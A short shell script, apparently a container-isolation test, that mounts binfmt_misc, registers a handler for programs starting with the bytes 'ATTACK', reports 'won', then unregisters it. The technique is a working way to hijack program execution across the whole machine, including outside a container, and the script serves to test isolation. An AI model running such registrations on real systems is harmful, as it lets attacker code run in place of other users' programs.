# SPDX-License-Identifier: Apache-2.0
# A handler of the attacker's for all programs of the machine that begin with certain bytes.
#
# It is run in place of them, by whoever starts one, in or outside of the workload.
#
# ---
# tries: [B6]
# wins: said
# may_lack: binfmt_misc
place=/proc/sys/fs/binfmt_misc
test -e $place/register || mount -t binfmt_misc none $place || { echo 'lacking: no binfmt_misc'; exit 77; }
echo ":attack:M::ATTACK::$O/handler:" > $place/register && echo won
echo -1 > $place/attack
